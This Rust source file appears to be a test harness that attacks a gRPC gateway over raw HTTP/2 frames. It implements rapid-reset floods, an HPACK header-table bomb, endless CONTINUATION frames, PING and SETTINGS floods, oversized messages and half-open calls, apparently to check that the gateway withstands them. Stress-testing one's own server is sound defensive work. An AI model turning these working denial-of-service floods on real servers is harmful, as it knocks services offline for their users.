//! Attacks inside HTTP/2, by somebody who may come in: floods of frames, and calls that are too much.

use std::time::Duration;

use bytes::Bytes;
use credgate_proto::LOOKUP_PATH;
use credgate_support::{
    rawh2::{Connection, Request},
    wire::{
        Target,
        frames::{self, frame},
    },
};
use futures::future::join_all;
use tokio::io::AsyncWriteExt as _;

use super::{End, refused, to_the_end};
use crate::Caller;

/// Calls that are sent and reset.
pub(super) async fn resets(caller: &Caller) -> End {
    let bearer = bearer(caller);
    let fields = frames::grpc_fields(LOOKUP_PATH, &bearer);
    flood(&caller.target, 1, |number| {
        let id = stream(number);
        [frames::headers(id, &fields, false), frames::data(id, QUESTION, true), frames::reset(id, frames::CANCEL)]
            .concat()
    })
    .await
}

/// The first call puts a long header into the table of the connection; the others name it 16,000 times with a byte each.
pub(super) async fn header_bombs(caller: &Caller) -> End {
    let bearer = bearer(caller);
    let fields = frames::grpc_fields(LOOKUP_PATH, &bearer);
    // Literal with incremental indexing, new name (RFC 7541, section 6.2.1); 3968 bytes have the length 127 + 3841.
    let long = [&b"\x40\x01x\x7f\x81\x1e"[..], &[b'x'; 3968]].concat();
    let block = |fields: &[u8]| [&fields[frames::HEAD..], &long].concat();
    flood(&caller.target, 1, |number| match number {
        0 => frame(frames::HEADERS, END_HEADERS | END_STREAM, 1, &block(&frames::headers(1, &fields, true))),
        // Index 62 is the newest entry of the table (section 2.3.3).
        _ => frame(frames::HEADERS, END_HEADERS | END_STREAM, stream(number), &[0x80 | 62; 16 * 1024]),
    })
    .await
}

/// A header list that never ends.
pub(super) async fn continuations(caller: &Caller) -> End {
    let bearer = bearer(caller);
    let fields = frames::grpc_fields(LOOKUP_PATH, &bearer);
    flood(&caller.target, 64, |number| match number {
        0 => frame(frames::HEADERS, 0, 1, &frames::headers(1, &fields, true)[frames::HEAD..]),
        _ => frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"),
    })
    .await
}

/// Signs of life that are to be answered.
pub(super) async fn pings(target: &Target) -> End {
    flood(target, 512, |_| frame(frames::PING, 0, 0, b"12345678")).await
}

/// Settings that are to be acknowledged.
pub(super) async fn settings(target: &Target) -> End {
    flood(target, 512, |_| frame(frames::SETTINGS, 0, 0, &[])).await
}

/// Messages of which the gateway wants a kilobyte.
pub(super) async fn big_messages(caller: &Caller) -> End {
    let piece = Bytes::from(vec![0; 16 * 1024]);
    calls(caller, 1, |request| request.pieces(std::iter::repeat_n(piece.clone(), 64))).await
}

/// Calls that wait for a message which does not come.
pub(super) async fn half_calls(caller: &Caller) -> End {
    calls(caller, 200, |request| request.no_body().no_end()).await
}

/// So many calls at once, again and again, until the connection ends.
async fn calls(caller: &Caller, at_once: usize, spoil: impl Fn(Request) -> Request) -> End {
    let connection = match Connection::open(&caller.target).await {
        Ok(connection) => connection,
        Err(error) => return refused(&error),
    };
    let request = spoil(Request::to(LOOKUP_PATH).header("authorization", caller.bearer.as_bytes()));
    let mut sent = 0;
    loop {
        let answers = join_all((0..at_once).map(|_| connection.send(request.clone(), PATIENCE))).await;
        if answers.iter().any(|answer| answer.http.is_none()) {
            return End::closed(sent);
        }
        if answers.iter().any(|answer| answer.ending() == "OK") {
            return End { sent, how: "ANSWERED: OK".to_owned() };
        }
        sent += u64::try_from(at_once).unwrap_or_default();
    }
}

/// Sends frames as fast as the gateway takes them, so many at once, and reads what comes back.
async fn flood(target: &Target, at_once: u32, one: impl Fn(u32) -> Vec<u8>) -> End {
    let stream = match target.connect().await {
        Ok(stream) => stream,
        Err(error) => return refused(&error),
    };
    let (mut reader, mut writer) = tokio::io::split(stream);
    let mut sent = 0;
    let send = async {
        writer.write_all(&frames::hello()).await?;
        writer.write_all(&frame(frames::SETTINGS, ACK, 0, &[])).await?;
        // Stream numbers end at 2^31.
        while sent < (1 << 29) {
            let some: Vec<u8> = (sent..sent + at_once).flat_map(&one).collect();
            writer.write_all(&some).await?;
            writer.flush().await?;
            sent += at_once;
        }
        std::io::Result::Ok(())
    };
    tokio::select! {
        _ = send => {}
        () = to_the_end(&mut reader) => {}
    }
    End::closed(sent.into())
}

fn stream(number: u32) -> u32 {
    number * 2 + 1
}

/// As text for the hand-made frames; a token is printable.
fn bearer(caller: &Caller) -> String {
    String::from_utf8_lossy(caller.bearer.as_bytes()).into_owned()
}

/// Node 2000.
const QUESTION: &[u8] = b"\0\0\0\0\x06\x0a\x042000";

/// Longer than the gateway lets a call wait.
const PATIENCE: Duration = Duration::from_secs(60);

/// RFC 9113, section 6.
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
